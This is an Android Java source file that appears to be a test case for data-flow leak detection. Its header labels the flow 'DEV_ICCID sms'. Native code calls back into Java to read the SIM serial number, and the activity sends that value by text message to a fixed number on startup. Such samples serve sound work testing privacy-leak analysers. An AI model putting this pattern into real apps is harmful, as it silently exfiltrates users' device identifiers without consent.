// about       Native code asks a Java method for the value, which that reads, and gives it back.
// leak        DEV_ICCID sms
// native      CallbackResult_leak.c
package cn.example.flow;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class MainActivity extends Activity {
  static {
    System.loadLibrary("CallbackResult_leak");
  }

  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    String text = describe();
    SmsManager.getDefault().sendTextMessage("10690000", null, text, null, null);
  }

  private native String describe();

  // Called by native code only.
  String card() {
    return ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getSimSerialNumber();
  }

  // Called by native code only.
  String screen() {
    return "main";
  }
}
